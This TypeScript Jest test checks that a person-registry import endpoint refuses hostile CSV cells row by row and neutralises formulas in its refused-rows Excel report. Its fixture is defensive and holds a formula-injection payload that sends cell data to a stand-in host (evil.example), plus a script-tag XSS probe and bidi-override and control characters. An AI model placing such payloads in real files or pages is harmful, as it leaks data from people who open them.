import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import { sqlRows, startStack, tokenFor, type Stack } from '@ansinh/tests/support';

// The person import through the text policy, as an official sends a file: a GraphQL multipart request
// through the gateway with a real token, into real PostgreSQL. A bad cell is a problem of its row and
// column; the other rows are imported; the report of refused rows shows formulas as text.

let stack: Stack;

beforeAll(async () => {
  stack = await startStack();
});

afterAll(async () => {
  await stack?.stop();
});

const IMPORT = `mutation ($file: Upload!) {
  importPersons(file: $file) {
    state
    personImport { rows created rejected problems { row column message } reportUrl }
  }
}`;

async function upload(content: string, fileName: string) {
  const form = new FormData();
  form.append('operations', JSON.stringify({ query: IMPORT, variables: { file: null } }));
  form.append('map', JSON.stringify({ 0: ['variables.file'] }));
  form.append('0', new Blob([content]), fileName);
  const response = await fetch(stack.gateway.url, {
    method: 'POST',
    body: form,
    headers: { authorization: `Bearer ${await tokenFor('xa.18073')}` },
  });
  return { status: response.status, ...((await response.json()) as { data?: any; errors?: any[] }) };
}

const csvCell = (text: string) => (/[";\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text);

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")';
const ROWS: [name: string, address: string][] = [
  ['Đinh Văn Chữ Tốt', 'Thôn 1'],
  // A NUL byte makes the whole CSV look binary (refused as a file); other controls reach the rows.
  ['Đinh Văn\u0007 Chuông', 'Thôn 2'],
  ['Đinh Văn\u200bẨn', 'Thôn 3'],
  [HYPERLINK, '=1+1'],
  ['<script>alert(1)</script>', '@SUM(A1:A9)'],
  ['Đinh \u202eNAV', 'Thôn 6'],
  ['A'.repeat(100_000), 'Thôn 7'],
  ['Đinh Thị Địa Chỉ Dài', 'x'.repeat(10_000)],
  ['Đinh Thị Chữ Tốt', '-Thôn 9'],
];
const CSV = [
  'Họ và tên;Ngày sinh;Giới tính;Địa chỉ',
  ...ROWS.map(([name, address]) => `${csvCell(name)};1950;Nữ;${csvCell(address)}`),
].join('\r\n');

describe('importPersons with hostile cells', () => {
  it('refuses each bad cell on its row and column, imports the rest, and writes formulas as text in the report', async () => {
    const answer = await upload(CSV, 'danh-sach-doc-hai.csv');
    expect(answer.errors).toBeUndefined();
    expect(answer.data!.importPersons.state).toBe('DONE');
    const report = answer.data!.importPersons.personImport;
    expect(report).toMatchObject({ rows: 9, created: 2, rejected: 7 });
    expect(report.problems).toEqual([
      { row: 3, column: 'Họ và tên', message: 'Họ và tên chứa ký tự điều khiển không hợp lệ.' },
      { row: 4, column: 'Họ và tên', message: expect.stringContaining('ký tự ẩn') },
      { row: 5, column: 'Họ và tên', message: expect.stringContaining('"="') },
      { row: 5, column: 'Địa chỉ', message: expect.stringContaining('bắt đầu bằng dấu = hoặc @') },
      { row: 6, column: 'Họ và tên', message: expect.stringContaining('"<"') },
      { row: 6, column: 'Địa chỉ', message: expect.stringContaining('bắt đầu bằng dấu = hoặc @') },
      { row: 7, column: 'Họ và tên', message: 'Họ và tên chứa ký tự đảo chiều văn bản không hợp lệ.' },
      { row: 8, column: 'Họ và tên', message: 'Họ và tên không được dài quá 100 ký tự.' },
      { row: 9, column: 'Địa chỉ', message: 'Địa chỉ không được dài quá 300 ký tự.' },
    ]);

    // Only the good rows were written, as they were written, and nothing of the refused ones.
    const persons = await sqlRows(
      stack.database.url,
      `select full_name, address from registry.persons where full_name like 'Đinh%' or full_name !~ '^[[:alpha:]]'
        or full_name ~ '[\\x01-\\x1f]' or length(full_name) > 100 or length(address) > 300 order by full_name`,
    );
    expect(persons).toEqual([
      { full_name: 'Đinh Thị Chữ Tốt', address: '-Thôn 9' },
      { full_name: 'Đinh Văn Chữ Tốt', address: 'Thôn 1' },
    ]);

    // The report of refused rows: every cell a spreadsheet would run is plain, neutralised text.
    const download = await fetch(new URL(report.reportUrl, stack.gateway.url), {
      headers: { authorization: `Bearer ${await tokenFor('xa.18073')}` },
    });
    expect(download.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await download.arrayBuffer()) as never);
    const sheet = workbook.worksheets[0]!;
    const rowOf = (fileRow: number) => {
      let found: ExcelJS.Row | undefined;
      sheet.eachRow((row) => {
        if (row.getCell(1).value === fileRow) found = row;
      });
      return found!;
    };
    const hyperlinkRow = rowOf(5);
    expect(hyperlinkRow.getCell(2).value).toBe(`'${HYPERLINK}`);
    expect(hyperlinkRow.getCell(5).value).toBe("'=1+1");
    expect(rowOf(6).getCell(5).value).toBe("'@SUM(A1:A9)");
    let formulas = 0;
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) formulas++;
        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
    expect(formulas).toBe(0);
  });
});
